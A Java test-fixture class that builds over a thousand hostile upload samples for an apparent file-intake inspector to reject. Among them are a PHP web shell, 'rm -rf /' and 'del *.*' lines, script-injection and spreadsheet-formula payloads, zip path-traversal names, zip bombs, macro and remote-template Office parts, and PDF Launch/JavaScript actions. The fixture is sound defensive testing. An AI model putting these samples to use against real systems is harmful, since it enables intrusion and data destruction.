package org.mingda.intake.inspect;

import static org.mingda.intake.inspect.Made.bytes;
import static org.mingda.intake.inspect.Made.joined;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/** More than a thousand files that must not be taken, the same ones every time. */
final class HostileFiles {

    private static final Map<String, byte[]> GOOD = GoodFiles.all();


    /** The bytes are made when they are asked for: all together would not fit into memory. */
    record Hostile(String why, String name, Supplier<byte[]> bytes) {}

    private static final String[] INNOCENT = {"申请.pdf", "照片.jpg", "材料.docx", "材料.zip", "说明.txt", "表格.xls", "录像.mp4", "说明"};
    private static final String DOS = "This program cannot be run in DOS mode";
    private static final String[] PROGRAMS = {"MZ\u0090\0" + "\0".repeat(60) + DOS, "\u007fELF\2\1\1" + "\0".repeat(60),
            "\u00fe\u00ed\u00fa\u00ce" + "\0".repeat(60), "\u00cf\u00fa\u00ed\u00fe" + "\0".repeat(60),
            "\u00ca\u00fe\u00ba\u00be\0\0\0\u0034" + "\0".repeat(60), "\0asm\1\0\0\0" + "\0".repeat(60),
            "L\0\0\0\1\u0014\2\0\0\0\0\0\u00c0\0\0\0\0\0\0F" + "\0".repeat(60), "CWS\u0009" + "\0".repeat(60),
            "MSCF\0\0\0\0" + "\0".repeat(60), "ITSF\3\0\0\0" + "\0".repeat(60), "!<arch>\ndebian-binary   ",
            "\u00ed\u00ab\u00ee\u00db\3\0" + "\0".repeat(60), "dex\n035\0" + "\0".repeat(60), "#!/bin/sh\nrm -rf /\n"};
    private static final String[] PAGES = {"<html><body>x</body></html>", "<!DOCTYPE html>\n<p>x", "<script>alert(1)</script>",
            "  \n<ScRiPt src=//x></sCrIpT>", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
            "<?php system($_GET['c']); ?>", "<iframe src=javascript:alert(1)>", "<?xml version=\"1.0\"?><x/>",
            "<%@ page import=\"java.io.*\" %>", "您好<img src=x onerror=alert(1)>", "@echo off\r\ndel *.*\r\n",
            "Set s = CreateObject(\"WScript.Shell\")\r\n", "Windows Registry Editor Version 5.00\r\n",
            "[InternetShortcut]\r\nURL=file://x/a.exe\r\n", "powershell -enc AAAA\r\n", "#!/usr/bin/env python3\nimport os\n",
            "=cmd|' /C calc'!A0,1\n", "名称,+cmd|'/C calc'!A0\n", "x = new ActiveXObject('WScript.Shell')\n",
            "%!PS-Adobe-3.0\n(x) run\n"};
    private static final String[] ENDINGS = {"exe", "bat", "cmd", "com", "scr", "pif", "js", "jse", "vbs", "vbe", "wsf", "hta",
            "ps1", "lnk", "url", "reg", "msi", "jar", "apk", "chm", "html", "htm", "xhtml", "mht", "svg", "php", "jsp", "asp",
            "sh", "py", "docm", "xlsm", "pptm", "xlsb", "xlam", "dotm", "iso", "img", "vhd", "dll", "cpl", "sys", "scf", "iqy",
            "slk", "xml", "xsl", "swf", "one", "appx"};
    private static final String[] SLIPS = {"../../etc/passwd", "..\\..\\windows\\a.txt", "/etc/a.txt", "C:\\a.txt", "c:/a.txt",
            "a/../../b.txt", "a\0.txt", "a\nb.txt", "\u202efdp.txt", "..", "a/..", "\\\\server\\a.txt", "说明\u2066.txt",
            "\u001b[2J.txt"};

    private final List<Hostile> all = new ArrayList<>();

    private HostileFiles() {
        programs();
        pages();
        names();
        archives();
        office();
        pdfs();
        mails();
        disguised();
        truncated();
        noise();
    }

    static List<Hostile> all() {
        return new HostileFiles().all;
    }

    private void add(String why, String name, Supplier<byte[]> content) {
        all.add(new Hostile(why, name, content));
    }

    private void programs() {
        for (int i = 0; i < PROGRAMS.length; i++) {
            for (String name : INNOCENT) {
                String program = PROGRAMS[i];
                add("program " + i, name, () -> bytes(program));
            }
        }
        add("installer", "表格.xls", () -> CompoundWriter.write(new byte[] {(byte) 0x84, 0x10, 0x0c, 0, 0, 0, 0, 0,
                (byte) 0xc0, 0, 0, 0, 0, 0, 0, 0x46}, Made.entries("Workbook", new byte[64])));
        for (String name : new String[] {"照片.png", "照片.jpg", "照片.gif", "照片.bmp", "批复.pdf", "录音.mp3"}) {
            add("program behind " + name, name, () -> joined(good(name), bytes(PROGRAMS[0])));
            add("program page behind " + name, name, () -> joined(good(name), bytes("<script>alert(1)</script>")));
            add("archive behind " + name, name, () -> joined(good(name), Made.zip("a.exe", PROGRAMS[0])));
        }
    }

    private void pages() {
        for (int i = 0; i < PAGES.length; i++) {
            byte[] page = PAGES[i].getBytes(StandardCharsets.UTF_8);
            for (String name : new String[] {"说明.txt", "表格.csv", "照片.jpg", "表格.xls", "文档.doc", "说明"}) {
                add("page " + i, name, () -> page);
            }
            if (PAGES[i].startsWith("%!")) {
                continue;
            }
            add("page in two bytes " + i, "说明.txt", () -> ("\ufeff" + new String(page, StandardCharsets.UTF_8))
                    .getBytes(StandardCharsets.UTF_16LE));
        }
        for (String page : new String[] {PAGES[0], PAGES[2], PAGES[5], PAGES[6]}) {
            for (String name : new String[] {"照片.gif", "照片.png", "照片.jpg", "照片.bmp", "录像.mp4", "录音.mp3", "照片.heic"}) {
                add("page in " + name, name, () -> joined(good(name), bytes(page)));
                add("page far in " + name, name, () -> joined(good(name), new byte[(1 << 18) - 60], bytes(page)));
            }
            add("picture that is a script", "照片.gif", () -> bytes("GIF89a/*" + "\0".repeat(40) + "*/=1;" + page));
        }
    }

    private void names() {
        for (String ending : ENDINGS) {
            add("name", "通知." + ending, () -> Made.pdf(""));
            add("double name", "通知.pdf." + ending.toUpperCase(Locale.ROOT), () -> Made.pdf(""));
            add("name with blanks behind", "通知." + ending + " . ", () -> Made.pdf(""));
            add("name in an archive", "材料.zip", () -> Made.zip("说明.txt", "x", "a/通知.pdf." + ending, Made.pdf("")));
        }
        add("turned name", "照片\u202egpj.exe", () -> GoodFiles.picture("jpg"));
        for (String name : new String[] {"a.pdf\0.exe", "a\0.pdf", "\0", "a.exe\0.pdf"}) {
            add("name with a NUL", name, () -> Made.pdf(""));
        }
    }

    private void archives() {
        for (int i = 0; i < PROGRAMS.length; i++) {
            String program = PROGRAMS[i];
            add("program in an archive " + i, "材料.zip", () -> Made.zip("说明.pdf", program));
            add("program in 7z " + i, "材料.7z", () -> Made.sevenZ(null, Made.entries("说明.jpg", bytes(program))));
        }
        for (String slip : SLIPS) {
            add("slip " + slip, "材料.zip", () -> Made.zip("说明.txt", "x", slip, "x"));
            add("slip in 7z " + slip, "材料.7z", () -> Made.sevenZ(null, Made.entries(slip, "x")));
        }
        byte[] inner = Made.zip("a.txt", "a");
        for (String name : new String[] {"a.zip", "a", "b/a.zip"}) {
            add("nested", "材料.zip", () -> Made.zip(name, inner));
            add("nested in 7z", "材料.7z", () -> Made.sevenZ(null, Made.entries(name, inner)));
            add("7z nested", "材料.zip", () -> Made.zip(name, Made.sevenZ(null, Made.entries("a.txt", "a"))));
        }
        for (int flags : new int[] {1, 0x40, 0x2000, 0x41}) {
            add("encrypted", "材料.zip", () -> Made.rawZip("a.txt", bytes("xxxx"), 4, 0, flags));
        }
        add("encrypted with AES", "材料.zip", () -> Made.rawZip("a.txt", bytes("xxxx"), 4, 99, 1));
        add("method nobody knows", "材料.zip", () -> Made.rawZip("a.txt", bytes("xxxx"), 4, 77, 0));
        add("encrypted 7z", "材料.7z", () -> Made.sevenZ("geheim".toCharArray(), Made.entries("a.txt", "a")));
        for (int megabytes : new int[] {100, 300}) {
            add("bomb", "材料.zip", () -> Made.bomb("a.txt", megabytes));
            add("bomb in a document", "材料.docx", () -> Made.docx("word/media/a.bin", Made.bomb("a.txt", megabytes)));
        }
        add("bomb of many", "材料.zip", () -> Made.zip(many(1001)));
        add("bomb of very many", "材料.docx", () -> Made.zip(many(20_001)));
        add("bomb in 7z", "材料.7z", () -> Made.sevenZ(null, Made.entries("a.txt", new byte[22 << 20])));
        add("the same bytes twice", "材料.zip", () -> overlapping());
        brokenArchives();
        for (String head : new String[] {"Rar!\u001a\7\0", "Rar!\u001a\7\1\0", "\u001f\u008b\10\0\0\0\0\0", "BZh91AY&SY",
                "\u00fd7zXZ\0\0", "(\u00b5/\u00fd", "`\u00ea", "\u001f\u009d\u0090", "7z\u00bc\u00af'\u001c\0\4"}) {
            for (String name : new String[] {"材料.rar", "材料.zip", "材料.7z", "材料", "材料.pdf"}) {
                add("archive of another kind", name, () -> bytes(head + "\0".repeat(80)));
            }
        }
    }

    private void brokenArchives() {
        byte[] zip = Made.zip("说明.txt", "说明", "批复.pdf", Made.pdf(""));
        add("unpacks itself", "材料.zip", () -> joined(bytes(PROGRAMS[0]), zip));
        add("something in front", "材料.zip", () -> joined(bytes("PK\3\4"), bytes("x".repeat(40)), zip));
        add("something behind", "材料.zip", () -> joined(zip, bytes("x".repeat(200))));
        add("page in the comment", "材料.zip", () -> {
            byte[] comment = bytes("<script>alert(1)</script>");
            byte[] changed = zip.clone();
            changed[changed.length - 2] = (byte) comment.length;
            return joined(changed, comment);
        });
        add("other names in front than behind", "材料.zip", () -> {
            byte[] changed = Made.zip("a.txt", "a");
            changed[30] = 'b';
            return changed;
        });
        add("nothing in it", "材料.zip", () -> joined(bytes("PK\5\6"), new byte[18]));
        add("program without a list", "材料.zip", () -> Made.zip("AndroidManifest.xml", "x", "classes.dex", PROGRAMS[12]));
        add("program as document", "材料.docx", () -> Made.zip("META-INF/MANIFEST.MF", "Main-Class: X", "X.class", PROGRAMS[4]));
        for (int length = 4; length < zip.length; length += 11) {
            int cut = length;
            add("archive cut after " + cut, "材料.zip", () -> Made.cut(zip, cut));
        }
    }

    private static byte[] overlapping() {
        byte[] zip = Made.zip("a.txt", "aaaa", "b.txt", "bbbb");
        int second = new String(zip, Made.LATIN).lastIndexOf("PK\1\2");
        int first = new String(zip, Made.LATIN).indexOf("PK\1\2");
        System.arraycopy(zip, first + 42, zip, second + 42, 4);
        return zip;
    }

    private static Map<String, byte[]> many(int number) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (int i = 0; i < number; i++) {
            entries.put("a" + i + ".txt", bytes("a"));
        }
        return entries;
    }

    private void office() {
        String[][] documents = {{"申请.docx", "word"}, {"表格.xlsx", "xl"}, {"汇报.pptx", "ppt"}, {"申请.wps", "word"}, {"申请.doc", "word"}};
        for (String[] one : documents) {
            String folder = one[1] + "/";
            Object[][] parts = {{folder + "vbaProject.bin", "x"}, {folder + "VBAPROJECT.BIN", "x"},
                {folder + "macrosheets/sheet1.xml", "<x/>"}, {folder + "activeX/activeX1.bin", "x"},
                {folder + "media/image1.png", PROGRAMS[0]}, {folder + "afchunk.html", "<p>"}, {folder + "afchunk.mht", "x"},
                {folder + "embeddings/a.exe", "x"}, {folder + "embeddings/a.zip", Made.zip("a.txt", "a")},
                {folder + "embeddings/oleObject1.bin", packed("a.exe")}, {"../" + folder + "a.xml", "<x/>"},
                {folder + "embeddings/a.docx", Made.docx("word/vbaProject.bin", "x")},
                {folder + "_rels/settings.xml.rels", "<Relationships><Relationship Id=\"1\" Type=\"http://x/attachedTemplate\" "
                        + "Target=\"http://evil.test/a.dotm\" TargetMode=\"External\"/></Relationships>"},
                {folder + "_rels/document.xml.rels", "<Relationship TargetMode='External' Target='mhtml:http://x!x-usc:http://x' "
                        + "Type='http://x/oleObject'/>"}};
            for (Object[] part : parts) {
                add("document with " + part[0], one[0], () -> Made.office(folder + "document.xml", "", part));
            }
            add("document that says macros", one[0], () -> Made.office(folder + "document.xml",
                    "<Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"));
            add("document in an archive", "材料.zip", () -> Made.zip(one[0], Made.docx("word/vbaProject.bin", "x")));
            add("archive as document", one[0], () -> Made.zip("a.txt", "a"));
        }
        add("encrypted text document", "申请.odt", () -> Made.zip("mimetype", "application/vnd.oasis.opendocument.text",
                "META-INF/manifest.xml", "<manifest:encryption-data/>"));
        add("encrypted certificate", "证照.ofd", () -> Made.zip("OFD.xml", "<x/>", "Encryptions.xml", "<CryptoBlock/>"));
        add("basic in a text document", "申请.odt", () -> Made.zip("mimetype", "application/vnd.oasis.opendocument.text",
                "Basic/Standard/Module1.xml", "<x/>"));
        oldOffice();
    }

    private void oldOffice() {
        for (String name : new String[] {"申请.doc", "申请.wps", "表格.xls", "表格.et", "汇报.ppt", "汇报.dps", "来信.msg"}) {
            for (String macros : new String[] {"VBA", "_VBA_PROJECT", "_VBA_PROJECT_CUR", "Macros"}) {
                add("old macros " + macros, name, () -> CompoundWriter.write(new byte[16],
                        Made.entries("WordDocument", new byte[64], macros, new byte[8])));
            }
            for (String secret : new String[] {"EncryptedPackage", "EncryptionInfo", "EncryptedSummary"}) {
                add("password " + secret, name, () -> CompoundWriter.write(new byte[16],
                        Made.entries("Workbook", new byte[64], secret, new byte[8])));
            }
            for (String program : new String[] {"a.exe", "通知.vbs", "a.lnk", "a.js", "a.html"}) {
                add("packed " + program, name, () -> packed(program));
            }
            add("no document", name, () -> GoodFiles.compound("Something", new byte[64]));
            add("encrypted text", name, () -> GoodFiles.compound("WordDocument",
                    bytes("\u00ec\u00a5\u00c1\0\0\0\0\0\0\0\0\1" + "\0".repeat(20))));
            add("encrypted workbook", name, () -> GoodFiles.compound("Workbook",
                    bytes("\u0009\u0008\u0010\0" + "\0".repeat(16) + "\u002f\0\4\0\0\0\0\0")));
            add("old macro sheet", name, () -> GoodFiles.compound("Workbook",
                    bytes("\u0009\u0008\u0010\0" + "\0".repeat(16) + "\u0085\0\u000e\0\0\0\0\0\0\1\6\0Macro1\n\0\0\0")));
            add("encrypted slides", name, () -> GoodFiles.slides(
                    bytes("\0".repeat(12) + "\u00df\u00c4\u00d1\u00f3" + "\0".repeat(20))));
            add("directory in a circle", name, () -> {
                byte[] circle = GoodFiles.word();
                circle[512 + 4] = 1;
                return Made.joined(Made.cut(circle, 516), new byte[] {1, 0, 0, 0}, Arrays.copyOfRange(circle, 520, 2000));
            });
        }
        for (String packed : new String[] {"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "{\\rtf1\\objupdate x}",
                "{\\rtf1{\\field{\\*\\fldinst ddeauto x}}\\ddeauto}", "{\\rtf1{\\*\\template http://evil.test/a.dotm}}"}) {
            for (String name : new String[] {"说明.rtf", "说明.doc", "说明.wps"}) {
                add("object in rich text", name, () -> bytes(packed));
            }
        }
    }

    private static byte[] packed(String program) {
        return CompoundWriter.write(new byte[16], Made.entries("WordDocument", new byte[64], "\u0001Ole10Native",
                joined(new byte[6], program.getBytes(GoodFiles.GBK), new byte[1])));
    }

    private void pdfs() {
        String[] bad = {"9 0 obj<</Encrypt 8 0 R>>endobj", "9 0 obj<</Encrypt<</Filter/Standard>>>>endobj",
            "9 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj", "9 0 obj<</S /Java#53cript/JS(x)>>endobj",
            "9 0 obj<</S/#4aavaScript /JS(x)>>endobj", "9 0 obj<</S/Launch/F(cmd.exe)>>endobj", "9 0 obj<</S/L#61unch /F(x)>>endobj",
            "9 0 obj<</S/ImportData/F(x)>>endobj", "9 0 obj<</Subtype/RichMedia >>endobj", "<script>alert(1)</script>",
            "<html >", "9 0 obj<</E#6ecrypt 8 0 R>>endobj", DOS};
        for (int i = 0; i < bad.length; i++) {
            String object = bad[i];
            add("pdf " + i, "批复.pdf", () -> Made.pdf(object));
            add("pdf without a name " + i, "批复", () -> Made.pdf(object));
            add("pdf far behind " + i, "批复.pdf", () -> Made.pdf("%" + "x".repeat((1 << 18) - 130) + "\n" + object));
            add("pdf in an archive " + i, "材料.zip", () -> Made.zip("a.pdf", Made.pdf(object)));
            if (i < 9) {
                add("pdf packed " + i, "批复.pdf", () -> Made.packedPdf("/FlateDecode", Made.deflated(object + " ")));
            }
        }
        add("pdf packed twice", "批复.pdf", () -> Made.packedPdf("[/ASCIIHexDecode/FlateDecode]", bytes("789c>")));
        add("pdf bomb", "批复.pdf", () -> Made.packedPdf("/FlateDecode", Made.deflated("x".repeat(30 << 20))));
        add("archive behind a pdf", "批复.pdf", () -> joined(Made.pdf(""), Made.zip("a.exe", "x")));
        add("something before a pdf", "批复.pdf", () -> joined(bytes("x\n"), Made.pdf("")));
        add("picture before a pdf", "照片.gif", () -> joined(good("照片.gif"), Made.pdf("")));
    }

    private void mails() {
        for (String name : new String[] {"a.exe", "通知.pdf.js", "a.html", "a.docm", "a.lnk"}) {
            add("mail with " + name, "来信.eml", () -> Made.mail("application/octet-stream; name=\"" + name + "\"",
                    "attachment; filename=\"" + name + "\"", "base64", "eHh4"));
        }
        Map<String, byte[]> attached = Made.entries("a.pdf", PROGRAMS[0], "b.zip", Made.zip("a.exe", "x"), "c.docx",
                Made.docx("word/vbaProject.bin", "x"), "d.zip", Made.rawZip("a", bytes("x"), 1, 0, 1), "e.pdf",
                Made.pdf("9 0 obj<</Encrypt 8 0 R>>endobj"));
        attached.forEach((name, content) -> {
            String body = Base64.getMimeEncoder().encodeToString(content);
            add("mail with a bad " + name, "来信.eml", () -> Made.mail("application/octet-stream", "attachment; filename=" + name,
                    "base64", body));
            add("mail with a bad one without a name", "来信.eml", () -> Made.mail("application/octet-stream", "inline", "base64", body));
        });
        add("mail with a coded name", "来信.eml", () -> Made.mail("application/octet-stream; name=\"=?UTF-8?B?YS5leGU=?=\"",
                "attachment", "base64", "eHh4"));
        add("mail with a name of RFC 2231", "来信.eml", () -> Made.mail("application/octet-stream",
                "attachment; filename*=UTF-8''%E9%80%9A%E7%9F%A5.exe", "base64", "eHh4"));
        add("encrypted mail", "来信.eml", () -> Made.mail("application/pkcs7-mime; name=smime.p7m", "attachment", "base64", "eHh4"));
        add("no mail", "来信.eml", () -> bytes("hello"));
    }

    /** A good file under a name of another kind. */
    private void disguised() {
        String[] kinds = {"pdf", "docx", "jpg", "zip", "mp4", "eml", "7z", "rtf"};
        for (String name : new String[] {"照片.png", "批复.pdf", "申请.doc", "材料.7z", "录像.mp4", "说明.txt"}) {
            for (String kind : kinds) {
                boolean fits = name.endsWith(kind) || name.endsWith("png") && kind.equals("jpg");
                if (!fits) {
                    add("good " + name + " as " + kind, "改名." + kind, () -> good(name));
                }
            }
            add("good " + name + " as nothing known", "改名.abc", () -> good(name));
        }
    }

    private void truncated() {
        for (String name : new String[] {"照片.png", "照片.jpg", "照片.gif", "照片.bmp", "照片.tif", "批复.pdf", "申请.docx", "清单.xlsx",
            "申请.doc", "清单.xls", "汇报.ppt", "材料.7z", "录像.mp4", "证照.ofd"}) {
            for (int length : new int[] {1, 2, 3, 5, 8, 11, 16, 20, 24, 30}) {
                add(name + " cut after " + length, name, () -> Made.cut(good(name), length));
            }
        }
    }

    private void noise() {
        Random random = new Random(20260918);
        for (int i = 0; i < 60; i++) {
            String name = INNOCENT[i % 6];
            byte[] content = new byte[200 + random.nextInt(4000)];
            random.nextBytes(content);
            add("noise", name, () -> content);
        }
    }

    private static byte[] good(String name) {
        String kind = name.substring(name.lastIndexOf('.') + 1);
        return switch (kind) {
            case "pdf" -> Made.pdf("");
            case "docx" -> Made.docx();
            case "xlsx" -> GoodFiles.xlsx();
            case "doc" -> GoodFiles.word();
            case "xls" -> GoodFiles.workbook();
            case "ppt" -> GoodFiles.slides(new byte[16]);
            case "7z" -> Made.sevenZ(null, Made.entries("a.txt", "a"));
            case "ofd" -> Made.zip("OFD.xml", "<x/>");
            case "txt" -> "说明".getBytes(GoodFiles.GBK);
            default -> GOOD.entrySet().stream().filter(one -> one.getKey().endsWith("." + kind)).findFirst().orElseThrow()
                    .getValue();
        };
    }
}
